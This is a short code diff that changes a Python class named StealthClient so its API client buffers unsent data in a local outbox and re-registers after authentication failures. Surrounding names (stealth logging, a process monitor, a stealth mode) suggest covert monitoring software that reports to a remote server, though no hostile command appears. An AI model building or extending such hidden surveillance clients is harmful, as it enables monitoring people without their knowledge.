@@ -74,7 +74,15 @@ def setup_stealth_logging():
 
 class StealthClient:
     def __init__(self):
-        self.api_client = APIClient(Config.SERVER_URL, Config.API_KEY)
+        self.api_client = APIClient(
+            Config.SERVER_URL, Config.API_KEY,
+            outbox_dir=Config.DATA_DIR,
+            outbox_max_bytes=Config.OUTBOX_MAX_BYTES,
+            outbox_max_age=Config.OUTBOX_MAX_AGE,
+            pool_size=Config.HTTP_POOL_SIZE
+        )
+        # Outbox replays rejected with 401 re-register (throttled) before being dropped
+        self.api_client.on_auth_failure = self.register_client
         self.stream_handler = StreamHandler(self.api_client)
         self.process_monitor = ProcessMonitor(self.api_client)
         self.stealth_mode = StealthMode()